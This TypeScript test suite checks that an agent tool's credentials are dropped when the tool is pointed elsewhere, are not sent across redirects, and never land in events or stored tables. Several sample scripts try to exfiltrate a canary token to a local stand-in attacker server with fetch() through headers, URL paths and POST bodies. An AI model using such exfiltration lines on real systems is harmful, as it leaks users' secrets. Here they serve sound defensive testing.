import {
  changeTool,
  createTool,
  deleteTool,
  getTool,
  getToolHistory,
  listTools,
  restoreTool,
  type Tool,
  type ToolTestResult,
  testTool,
} from '@tallyhand/contracts/features/tools/tools.endpoints';
import type { HistoryEntry } from '@tallyhand/contracts/kernel/changes';
import type { Problem } from '@tallyhand/contracts/kernel/problem';
import { openEventLog } from '@tallyhand/service-kit/event-store/event-log';
import { openPool } from '@tallyhand/service-kit/postgres/pool';
import { type ApiClient, toolInput } from '@tallyhand/test-kit/api-client';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  canary,
  canaryForms,
  dropped,
  dropsOf,
  keptRows,
  type NotingServer,
  openShopAndAttacker,
  refused,
  type ShopAndAttacker,
} from '../testing/dropped-credentials.ts';
import { membersOfEachRole } from '../testing/members.ts';
import { appendPast } from '../testing/past-sessions.ts';
import type { TestProduct } from '../testing/product.ts';

let opened: ShopAndAttacker;
let product: TestProduct;
let admin: ApiClient;
let organizationId: string;
let shop: NotingServer;
let attacker: NotingServer;
let manager: ApiClient;

beforeAll(async () => {
  opened = await openShopAndAttacker();
  ({ product, admin, organizationId, shop, attacker } = opened);
  const members = await membersOfEachRole(admin, product.url);
  manager = members.get('AgentManager') as ApiClient;
});
afterAll(() => opened?.[Symbol.asyncDispose]());

async function create(body: object, client = admin): Promise<Tool> {
  const made = await client.call<Tool & Problem>(createTool, { body });
  expect([made.status, made.body.detail]).toEqual([201, undefined]);
  return made.body;
}
const apiTool = (config: object = {}) =>
  create({
    ...toolInput,
    config: { baseUrl: `${shop.url}/api`, authType: 'bearer', ...config },
    authCredentials: { token: canary },
  });
const change = (id: string, body: object, client = manager) =>
  client.call<Tool & Problem>(changeTool, { params: { id }, body });
const restore = (id: string, version?: number, client = manager) =>
  client.call<Tool>(restoreTool, { params: { id }, body: version ? { version } : {} });
const run = async (id: string, input = '/orders', client = manager) =>
  (await client.call<ToolTestResult>(testTool, { params: { id }, body: { input } })).body;

describe('the credentials of a tool', () => {
  it('do not become the secrets of a script', async () => {
    const { id } = await apiTool();
    const script = 'return [...secrets.token].reverse().join("");';
    const config = { baseUrl: `${shop.url}/api`, authType: 'bearer', extras: { script } };
    const changed = await change(id, { type: 'custom', config });
    expect([changed.status, changed.body]).toMatchObject([200, dropped('changed')]);
    const result = await run(id);
    expect(result).toMatchObject(refused);
    for (const form of canaryForms) expect(JSON.stringify(result)).not.toContain(form);
  });

  it('do not follow the tool to another host', async () => {
    const { id } = await apiTool();
    const config = { baseUrl: `${attacker.url}/api`, authType: 'bearer' };
    expect((await change(id, { config })).body).toMatchObject(dropped('changed'));
    expect(await run(id)).toMatchObject(refused);
    expect(attacker.sawSecret).toBe(false);
    expect(await keptRows(product, id)).toBe(0);
  });

  it('do not go where an older version went', async () => {
    const first = 'an-old-token-of-the-attacker';
    const { id } = await create({
      ...toolInput,
      config: { baseUrl: `${attacker.url}/api`, authType: 'bearer' },
      authCredentials: { token: first },
    });
    const config = { baseUrl: `${shop.url}/api`, authType: 'bearer' };
    const moved = await change(id, { config, authCredentials: { token: canary } }, admin);
    expect(moved.body).toMatchObject({ credentialNames: ['token'], credentialsRequired: null });
    expect(await run(id)).toMatchObject({ success: true });
    expect((await restore(id, 1)).body).toMatchObject(dropped('restored'));
    expect(await run(id)).toMatchObject(refused);
    expect(attacker.sawSecret).toBe(false);
    expect(await keptRows(product, id)).toBe(0);
  });

  const keyScheme = (name: string) =>
    JSON.stringify({
      openapi: '3.1.0',
      info: { title: 'Shop', version: '1' },
      paths: { '/orders': { get: { operationId: 'orders' } } },
      components: { securitySchemes: { key: { type: 'apiKey', in: 'query', name } } },
    });

  it.each<[string, { baseUrl?: string; authType: string; openapi?: string }]>([
    ['the scheme', { baseUrl: 'https://127.0.0.1:1/api', authType: 'apikey' }],
    ['the port', { baseUrl: 'http://127.0.0.1:2/api', authType: 'apikey' }],
    // One host may serve one customer for each path, or for each value of a query.
    ['the path', { baseUrl: 'PLACE/customer-b', authType: 'apikey' }],
    ['the query', { baseUrl: 'PLACE/api?tenant=b', authType: 'apikey' }],
    ['the place of the key', { authType: 'apikey', openapi: keyScheme('echo') }],
    ['the kind of access', { authType: 'none' }],
  ])('go when %s changes', async (_, config) => {
    const { id } = await create({
      ...toolInput,
      config: { baseUrl: `${shop.url}/api`, authType: 'apikey' },
      authCredentials: { apiKey: canary },
    });
    const { baseUrl = 'PLACE/api', ...access } = config;
    const changed = await change(id, {
      config: { ...access, baseUrl: baseUrl.replace('PLACE', shop.url) },
    });
    expect([changed.status, changed.body.credentialNames]).toEqual([200, []]);
    await run(id);
    expect(await keptRows(product, id)).toBe(0);
  });

  it('stay while the tool goes to the same place', async () => {
    const { id } = await apiTool();
    const config = { baseUrl: `${shop.url}/api/`, authType: 'bearer', extras: { 'x-a': 'b' } };
    const changed = await change(id, { name: 'Another name', config });
    expect(changed.body).toMatchObject({ credentialNames: ['token'], credentialsRequired: null });
    await manager.call(deleteTool, { params: { id } });
    expect((await restore(id)).body).toMatchObject({ credentialNames: ['token'] });
    expect((await restore(id, 1)).body).toMatchObject({ credentialNames: ['token'] });
    expect(await run(id)).toMatchObject({ success: true });
  });

  it('are required again, and work once they are entered', async () => {
    const { id } = await apiTool();
    await change(id, { config: { baseUrl: `${attacker.url}/api`, authType: 'bearer' } });
    // Another field can be changed meanwhile.
    expect((await change(id, { name: 'Orders of today' })).body).toMatchObject(dropped('changed'));
    const back = { baseUrl: `${shop.url}/api`, authType: 'bearer' };
    expect((await change(id, { config: back })).body).toMatchObject(dropped('changed'));
    const entered = await change(id, { authCredentials: { token: canary } }, admin);
    expect(entered.body).toMatchObject({ credentialNames: ['token'], credentialsRequired: null });
    expect(await run(id)).toMatchObject({ success: true });
  });

  it('are reported by every read, by the history, with a reason', async () => {
    const { id } = await apiTool();
    await change(id, { config: { baseUrl: `${attacker.url}/api`, authType: 'bearer' } });
    const read = () => admin.call<Tool>(getTool, { params: { id } });
    await expect.poll(async () => (await read()).body).toMatchObject(dropped('changed'));
    const { body: all } = await admin.call<Tool[]>(listTools);
    expect(all.find((tool) => tool.id === id)).toMatchObject(dropped('changed'));
    const history = () => admin.call<HistoryEntry[]>(getToolHistory, { params: { id } });
    const newest = async () => (await history()).body[0];
    await expect.poll(newest).toMatchObject({
      kind: 'credentials-dropped',
      changes: [{ field: 'credentials', before: ['token'] }],
    });
    const { sequence } = (await newest()) ?? {};
    const query = { asOf: String(sequence) };
    const then = await admin.call<Tool>(getTool, { params: { id }, query });
    expect(then.body).toMatchObject(dropped('changed'));
  });

  it('are not sent where they do not belong, even if no event dropped them', async () => {
    const { id } = await apiTool();
    const config = { baseUrl: `${attacker.url}/api`, authType: 'bearer', extras: {} };
    // As if a way to change a tool forgot its credentials.
    await appendPast(product.config, `tool-${id}`, organizationId, [
      { type: 'ToolChanged', data: { toolId: id, organizationId, version: 2, config } },
    ]);
    const before = attacker.seen.length;
    expect(await run(id)).toMatchObject(refused);
    expect(attacker.seen.length).toBe(before);
    expect(await keptRows(product, id)).toBe(1);
  });
});

describe('credentials entered during another change', () => {
  let database: pg.Client;
  beforeAll(async () => {
    database = new pg.Client({ connectionString: product.config.databaseUrl });
    await database.connect();
  });
  afterAll(() => database.end());

  /** Holds changes of stored credentials until released. */
  async function holdUp() {
    await database.query('begin');
    await database.query('lock table operational.tool_credentials in share row exclusive mode');
    const waiting = (count: number) =>
      vi.waitUntil(async () => {
        const { rows } = await database.query<{ waiting: number }>(
          `select count(*)::int as waiting from pg_locks
           where not granted and relation = 'operational.tool_credentials'::regclass
             and database = (select oid from pg_database where datname = current_database())`,
        );
        return rows[0]?.waiting === count;
      });
    return { waiting, goOn: () => database.query('commit') };
  }

  it('have to be entered again where the other change moves the tool', async () => {
    const { id } = await apiTool();
    const { waiting, goOn } = await holdUp();
    const entering = change(id, { authCredentials: { token: canary } }, admin);
    await waiting(1);
    const moving = change(id, { config: { baseUrl: `${attacker.url}/api`, authType: 'bearer' } });
    await waiting(2);
    await goOn();
    const { body: entered } = await entering;
    expect((await moving).status).toBe(200);
    expect(entered).toMatchObject({ config: { baseUrl: `${attacker.url}/api` } });
    expect(entered).toMatchObject(dropped('changed'));
    const read = async () => (await admin.call<Tool>(getTool, { params: { id } })).body;
    await expect.poll(read).toMatchObject(dropped('changed'));
    expect(await run(id)).toMatchObject(refused);
    expect(await keptRows(product, id)).toBe(0);
  });

  it('serve where the other change enters them too', async () => {
    for (let round = 0; round < 5; round += 1) {
      const { id } = await apiTool();
      const { waiting, goOn } = await holdUp();
      const both = ['one', 'other'].map((token) => change(id, { authCredentials: { token } }));
      await waiting(2);
      await goOn();
      for (const { body } of await Promise.all(both)) {
        expect(body).toMatchObject({ credentialNames: ['token'], credentialsRequired: null });
      }
      expect(await run(id)).toMatchObject({ success: true });
      expect(await keptRows(product, id)).toBe(1);
    }
  });
});

describe('the secrets of a script', () => {
  const scriptTool = (script: string, hosts: readonly string[] = [shop.url]) =>
    create({
      ...toolInput,
      type: 'custom',
      config: { extras: { script }, allowedHosts: hosts },
      authCredentials: { token: canary },
    });

  it('reach an allowed host in a header', async () => {
    const { id } = await scriptTool(
      `const headers = { authorization: 'Bearer ' + secrets.token };
       return (await fetch('${shop.url}/orders', { headers })).json();`,
    );
    expect(await run(id)).toMatchObject({ success: true, output: '{"fine":true}' });
    expect(shop.seen.at(-1)).toContain(`Bearer ${canary}`);
  });

  it('do not follow a redirect to another host', async () => {
    const { id } = await scriptTool(
      `const headers = { authorization: basicAuth('shop', secrets.token), 'x-key': secrets.token };
       const answer = await fetch('${shop.url}/away', { method: 'POST', headers, body: '{}' });
       return answer.status;`,
    );
    const before = attacker.seen.length;
    expect(await run(id)).toMatchObject({ success: true, output: '200' });
    expect(shop.seen.at(-1)).toContain(Buffer.from(`shop:${canary}`).toString('base64'));
    expect(attacker.seen.length).toBe(before + 1);
    expect(attacker.seen.at(-1)).not.toMatch(/authorization|x-key/);
    expect(attacker.sawSecret).toBe(false);
  });

  it('reach no other host, and never the script', async () => {
    const scripts = [
      `return [...secrets.token].reverse().join('') + btoa(secrets.token);`,
      `return fetch('${attacker.url}', { headers: { a: secrets.token } });`,
      `return fetch('${attacker.url}/' + secrets.token);`,
      `return fetch('${attacker.url}', { method: 'POST', body: secrets.token });`,
      `return fetch('${attacker.url}', { method: 'POST', body: btoa(secrets.token) });`,
    ];
    for (const script of scripts) {
      const { id } = await scriptTool(script);
      const output = JSON.stringify(await run(id));
      for (const form of canaryForms) expect(output).not.toContain(form);
    }
    expect(attacker.sawSecret).toBe(false);
  });

  it.each([
    [
      'the script',
      (script: string) => ({ extras: { script: `${script} ` }, allowedHosts: [shop.url] }),
    ],
    ['the hosts', (script: string) => ({ extras: { script }, allowedHosts: [attacker.url] })],
    ['no hosts', (script: string) => ({ extras: { script } })],
  ])('are dropped with a change of %s', async (_, configOf) => {
    const script = `return fetch('${shop.url}', { headers: { a: secrets.token } });`;
    const { id } = await scriptTool(script);
    expect((await change(id, { config: configOf(script) })).body).toMatchObject(dropped('changed'));
    expect(await run(id)).toMatchObject(refused);
  });

  it('stay when the same hosts are written in another way', async () => {
    const { id, config } = await scriptTool('return 1;', ['API.example.com:443', shop.url]);
    expect(config.allowedHosts).toEqual(['api.example.com', shop.url]);
    const same = { extras: config.extras, allowedHosts: [shop.url, 'https://api.example.com/'] };
    expect((await change(id, { config: same })).body.credentialNames).toEqual(['token']);
  });

  it.each([
    ['none', undefined, 'config.allowedHosts'],
    ['a path', ['api.example.com/v1'], 'config.allowedHosts.0'],
    ['any host', ['*.example.com'], 'config.allowedHosts.0'],
    ['a person', ['me@api.example.com'], 'config.allowedHosts.0'],
    ['no list', 'api.example.com', 'config.allowedHosts'],
  ])('need distinguishable hosts: %s', async (_, allowedHosts, path) => {
    const config = { extras: { script: 'return 1;' }, allowedHosts };
    const body = { ...toolInput, type: 'custom', config };
    const answer = await admin.call<Problem>(createTool, { body });
    expect([answer.status, answer.body.errors?.[0]?.path]).toEqual([422, path]);
  });
});

describe('the stored data of tools', () => {
  it('holds no credential: events, audit log, read models, answers kept for repeats', async () => {
    const { id } = await apiTool();
    await change(id, { config: { baseUrl: `${attacker.url}/api`, authType: 'bearer' } });
    await expect.poll(() => dropsOf(admin, id)).toBe(1);
    const log = openEventLog(product.config.eventStoreUrl);
    let events = '';
    for await (const { type, data, envelope } of log.read(`tool-${id}`, 0n)) {
      events += JSON.stringify([type, data, envelope]);
    }
    await log.close();
    expect(events).toContain('ToolCredentialsDropped');
    const pool = openPool(product.config.databaseUrl, 1);
    const { rows: tables } = await pool.query<{ name: string }>(
      `select format('%I.%I', schemaname, tablename) as name from pg_tables
       where schemaname in ('operational', 'read_model')`,
    );
    let stored = '';
    for (const { name } of tables) {
      const { rows } = await pool.query(`select t::text as row from ${name} t`).catch(() => ({
        rows: [],
      }));
      stored += JSON.stringify(rows);
    }
    await pool.end();
    expect(stored).toContain(id);
    for (const form of canaryForms) {
      expect(events).not.toContain(form);
      expect(stored).not.toContain(form);
    }
  });
});
